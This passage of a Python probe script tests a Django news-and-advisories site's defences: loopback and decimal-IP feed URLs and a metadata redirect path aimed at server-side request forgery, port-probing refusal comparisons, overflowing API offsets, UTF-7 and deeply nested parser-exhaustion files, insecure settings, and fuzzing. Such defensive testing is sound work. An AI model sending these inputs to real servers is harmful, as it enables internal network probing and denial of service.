        (f"http://2130706433:{feeds.port}/feed", feeds.port),
    ]
    editor = _admin(site)
    messages: dict[int | None, set[str]] = {}
    for url, port in urls:
        before = site.sql("SELECT count(*) FROM news_feedsource")[0][0]
        answer = editor.submit(
            "/admin/news/feedsource/add/", {"name": "Probe feed", "url": url, "enabled": "on"}
        )
        after = site.sql("SELECT count(*) FROM news_feedsource")[0][0]
        errors = re.findall(r'<ul class="errorlist"[^>]*>(.*?)</ul>', answer.text, re.S)
        message = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", e)) for e in errors)
        message = " ".join(message.split())
        if port in (feeds.port, closed) and url.startswith("http://127.0.0.1"):
            messages.setdefault(0, set()).add(_one_line_problem(message, port))
        report(
            "internal-fetch",
            f"admin: add FeedSource url={url}",
            f"{answer.status}, refused: {message or 'no'}; sources stored {after - before}",
            answer.status == 200 and bool(message) and after == before,
        )
    same = len(messages.get(0, set())) == 1
    report(
        "internal-fetch",
        "admin: the refusals for an open and a closed loopback port",
        "identical once the port is blanked" if same else f"differ: {sorted(messages.get(0, []))}",
        same,
    )

    def ingest(url: str) -> subprocess.CompletedProcess:
        return manage(site.env, "ingest_news", "--feed", url)

    command_urls = [
        (f"http://127.0.0.1:{feeds.port}/x", feeds.port),
        (f"http://127.0.0.1:{closed}/x", closed),
        (f"http://127.0.0.1:{feeds.port}/to-metadata", feeds.port),
    ]
    with ThreadPoolExecutor(3) as pool:
        results = list(pool.map(ingest, [u for u, _ in command_urls]))
    shapes = set()
    for (url, port), result in zip(command_urls, results, strict=True):
        output = (result.stderr + result.stdout).strip()
        if url.endswith("/x"):
            shapes.add(_one_line_problem(output, port))
        ok = (
            result.returncode != 0
            and "Traceback" not in output
            and len(output.splitlines()) == 1
            and ("refused" in output or "public" in output)
        )
        report(
            "internal-fetch",
            f"manage.py ingest_news --feed {url}",
            f"exit {result.returncode}: {output[:200]}",
            ok,
        )
    report(
        "internal-fetch",
        "ingest_news: the refusals for an open and a closed loopback port",
        "identical once the port is blanked" if len(shapes) == 1 else f"differ: {sorted(shapes)}",
        len(shapes) == 1,
    )
    report(
        "internal-fetch",
        f"requests that reached the local feed server on port {feeds.port}",
        f"{len(feeds.hits)} {feeds.hits[:3] if feeds.hits else ''}",
        not feeds.hits,
    )
    note(
        "internal-fetch",
        "a 52 MB feed on a public address is not probed: only local servers exist here "
        "(a local one is refused before any byte is read)",
    )


# --- 9. schemathesis --------------------------------------------------------------------------


def probe_schemathesis(site: Site, examples: int = 50) -> None:
    command = [
        str(Path(sys.executable).parent / "schemathesis"),
        "run",
        f"{site.base}/api/v1/openapi.json",
        "--checks",
        "all",
        "--max-examples",
        str(examples),
    ]
    try:
        result = subprocess.run(
            command,
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=600,
            env={**os.environ, "NO_COLOR": "1", "PYTHONIOENCODING": "utf-8"},
        )
    except FileNotFoundError:
        report("schemathesis", " ".join(command), "schemathesis is not installed", False)
        return
    out = re.sub(r"\x1b\[[0-9;]*m", "", result.stdout + result.stderr)
    cases = re.search(r"(\d+) generated, ([^\n]+)", out)
    seed = re.search(r"Seed: (\d+)", out)
    summary = cases.group(0) if cases else out.strip().splitlines()[-1:] or ["no output"]
    failures = re.findall(r"^\s*[_]+ (.+?) [_]+$", out, re.M)
    report(
        "schemathesis",
        f"schemathesis run {site.base}/api/v1/openapi.json --checks all --max-examples {examples}",
        f"exit {result.returncode}: {summary if isinstance(summary, str) else summary[0]}"
        f"{'; failing: ' + ', '.join(failures[:4]) if failures else ''}"
        f"{'; seed ' + seed.group(1) if seed else ''}",
        result.returncode == 0,
    )
    if result.returncode:
        (site.tmp / "schemathesis.txt").write_text(out)
        print(out[-3000:], flush=True)


# --- 10. The smaller items --------------------------------------------------------------------


def probe_api(site: Site) -> None:
    for path in (
        "/api/v1/missions?offset=9223372036854775808",
        "/api/v1/news?offset=9223372036854775808",
        "/api/v1/missions?limit=9223372036854775808",
    ):
        answer = send(site.port, "GET", path)
        is_json = answer.header("Content-Type").startswith("application/json")
        detail = json.loads(answer.body).get("detail") if is_json else answer.text[:80]
        report(
            "api",
            f"GET {path}",
            f"{answer.status} {answer.header('Content-Type')}: {detail}",
            answer.status == 422 and is_json,
        )
    for path in ("/api/v1/countries", "/api/v1/missions"):
        raw = raw_exchange(
            site.port,
            f"HEAD {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode(),
        )
        head, _, rest = raw.partition(b"\r\n\r\n")
        status = head.split(b"\r\n", 1)[0].decode("latin-1")
        report(
            "api",
            f"HEAD {path}",
            f"{status}; {len(rest)} bytes after the headers",
            " 200 " in status + " " and not rest,
        )
    for method, path, expected in (
        ("GET", "/api/v1/nope", 404),
        ("DELETE", "/api/v1/countries", 405),
    ):
        answer = send(site.port, method, path)
        try:
            detail = json.loads(answer.body)["detail"]
        except (ValueError, KeyError, TypeError):
            detail = None
        report(
            "api",
            f"{method} {path}",
            f"{answer.status} {answer.header('Content-Type')}: {detail or answer.text[:60]}",
            answer.status == expected and detail is not None,
        )


def probe_ingest_errors(site: Site) -> None:
    utf7 = site.tmp / "advisories-utf7.xml"
    utf7.write_bytes(
        '<?xml version="1.0" encoding="UTF-7"?><rss version="2.0"><channel><title>'
        "Travel Advisories</title><item><title>Narnia - Level 4: Do Not Travel</title>"
        "</item></channel></rss>".encode("utf-7")
    )
    nested = site.tmp / "advisories-nested.json"
    nested.write_text("[" * 100_000 + "]" * 100_000)
    cases = [("us", utf7), ("ca", nested)]

    def run(case: tuple[str, Path]) -> subprocess.CompletedProcess:
        issuer, path = case
        return manage(site.env, "ingest_advisories", "--issuer", issuer, "--file", str(path))

    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(run, cases))
    for (issuer, path), result in zip(cases, results, strict=True):
        output = (result.stderr + result.stdout).strip()
        ok = (
            result.returncode != 0
            and "Traceback" not in output
            and len(output.splitlines()) == 1
            and str(path) in output
        )
        report(
            "ingest-errors",
            f"manage.py ingest_advisories --issuer {issuer} --file {path.name}",
            f"exit {result.returncode}: {output[:220]}",
            ok,
        )


def probe_settings(site: Site) -> None:
    cases = [
        ("DJANGO_ALLOWED_HOSTS='*'", {"DJANGO_ALLOWED_HOSTS": "*"}, "DJANGO_ALLOWED_HOSTS"),
        ("DJANGO_DEBUG=1", {"DJANGO_DEBUG": "1"}, "DJANGO_DEBUG"),
    ]
    servers = [
        start_server(f"refuse-{i}", site.tmp, {**site.env, **env})
        for i, (_, env, _) in enumerate(cases)
    ]
    for (label, _env, word), server in zip(cases, servers, strict=True):
        with suppress(subprocess.TimeoutExpired):
            server.process.wait(timeout=60)
        running = server.running()
        log = server.log.read_text(errors="replace")
        reason = next(
            (line for line in log.splitlines() if word in line and "Improperly" in line), ""
        )
        server.stop()
        report(
            "settings",
            f"gunicorn with production settings and {label}",
            f"still running: {running}, exit {server.process.returncode}; {reason.strip()[:160] or 'no reason logged'}",
            not running and server.process.returncode != 0 and bool(reason),
        )


# --- Running ----------------------------------------------------------------------------------

PROBES = (
    "no-database",
    "page-cache",
    "redirect",
    "confusable",
    "csv",
    "rate-limit",
    "internal-fetch",
    "api",
    "ingest-errors",
    "settings",
    "schemathesis",
    "slow-clients",
)


def _redis_client():
    if not REDIS_URL:
        return None, "PROBE_REDIS_URL is empty"
    try:
        import redis

        client = redis.Redis.from_url(REDIS_URL)
        client.ping()
    except Exception as exc:  # any failure: run without Redis
        return None, f"{REDIS_URL} unavailable ({type(exc).__name__})"
    return client, ""


@contextmanager
def servers_stopped(servers: list[Server]) -> Iterator[None]:
    try:
        yield
    finally:
        for server in servers:
            server.stop()


def run(selected: list[str]) -> int:
    started = time.monotonic()
    tmp = Path(tempfile.mkdtemp(prefix="chancery-probes-"))
    servers: list[Server] = []
    feeds: FeedServer | None = None
    try:
        with servers_stopped(servers):
            site = prepare(tmp)
            print(f"site copy ready in {time.monotonic() - started:.1f} s ({tmp})", flush=True)
            site.main = start_server("main", tmp, site.env, port=site.port)
            servers.append(site.main)
            redis_client, why_not = _redis_client() if "page-cache" in selected else (None, "")
            cached: Server | None = None
            if redis_client is not None:
                redis_client.flushdb()
                cached = start_server("redis", tmp, {**site.env, "REDIS_URL": REDIS_URL})
                servers.append(cached)
            closed_port = free_port()
            no_db: Server | None = None
            if "no-database" in selected:
                no_db = start_server(
                    "no-database",
                    tmp,
                    {**site.env, "DATABASE_URL": f"postgres://postgres@127.0.0.1:{closed_port}/x"},
                )
                servers.append(no_db)
            wait_answering(site.main)

            def no_database() -> None:
                assert no_db is not None  # started above, as the probe is selected
                probe_no_database(no_db, closed_port)

            def internal_fetch() -> None:
                assert feeds is not None  # started below, as the probe is selected
                probe_internal_fetch(site, feeds)

            checks: dict[str, Callable[[], None]] = {
                "no-database": no_database,
                "page-cache": lambda: _page_cache(site, cached, redis_client, why_not),
                "redirect": lambda: probe_redirect(site),
                "confusable": lambda: probe_confusable(site),
                "csv": lambda: probe_csv(site),
                "rate-limit": lambda: probe_rate_limit(site),
                "internal-fetch": internal_fetch,
                "api": lambda: probe_api(site),
                "ingest-errors": lambda: probe_ingest_errors(site),
                "settings": lambda: probe_settings(site),
                "schemathesis": lambda: probe_schemathesis(site),
                "slow-clients": lambda: probe_slow_clients(site),
            }
            if "internal-fetch" in selected:
                feeds = FeedServer()
            for name in PROBES:
                if name not in selected:
                    continue
                try:
                    checks[name]()
                except Exception as exc:  # a probe that breaks fails
                    report(name, "(the probe itself)", f"{type(exc).__name__}: {exc}", False)
                # Servers only one probe needs are stopped once it is done, so that they take
                # no CPU from the timed probes.
                for extra in (
                    no_db if name == "no-database" else None,
                    cached if name == "page-cache" else None,
                ):
                    if extra is not None:
                        extra.stop()
                if name == "page-cache" and redis_client is not None:
                    redis_client.flushdb()
    finally:
        if feeds is not None:
            feeds.close()
        shutil.rmtree(tmp, ignore_errors=True)
    elapsed = time.monotonic() - started
    if OUTCOME.failures:
        print(f"{len(OUTCOME.failures)} of {OUTCOME.lines} probes FAILED in {elapsed:.0f} s:")
        for failure in OUTCOME.failures:
            print(f"  {failure}")
        return 1
    print(f"all {OUTCOME.lines} probes passed in {elapsed:.0f} s")
    return 0


def _page_cache(site: Site, cached: Server | None, client, why_not: str) -> None:
    probe_page_cache_local(site)
    if cached is None:
        note("page-cache", f"Redis run skipped: {why_not}")
        return
    wait_answering(cached)
    probe_page_cache_redis(cached, client)


def main(argv: list[str]) -> int:
    unknown = [name for name in argv if name not in PROBES]
    if unknown:
        print(f"unknown probe(s) {', '.join(unknown)}; probes: {', '.join(PROBES)}")
        return 2
    return run(argv or list(PROBES))


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
